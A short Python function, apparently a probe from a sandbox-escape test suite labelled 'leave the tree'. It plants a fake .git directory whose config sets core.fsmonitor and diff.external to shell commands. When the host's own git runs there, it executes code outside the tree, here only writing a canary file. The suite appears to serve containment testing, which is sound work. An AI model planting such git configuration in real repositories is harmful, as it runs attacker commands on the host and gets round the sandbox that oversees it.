# leave the tree | plants a git folder whose settings make hone's own git start a program
import os
def attempt():
    try:
        if os.path.isfile(".git"):
            os.remove(".git")
        os.makedirs(".git/objects", exist_ok=True)
        os.makedirs(".git/refs", exist_ok=True)
        with open(".git/HEAD", "w") as head:
            head.write("ref: refs/heads/main\n")
        with open(".git/config", "w") as config:
            config.write("[core]\n\tfsmonitor = echo touched > @CAMP@/canary; false\n[diff]\n\texternal = echo touched > @CAMP@/canary\n")
    except OSError:
        pass
    return False
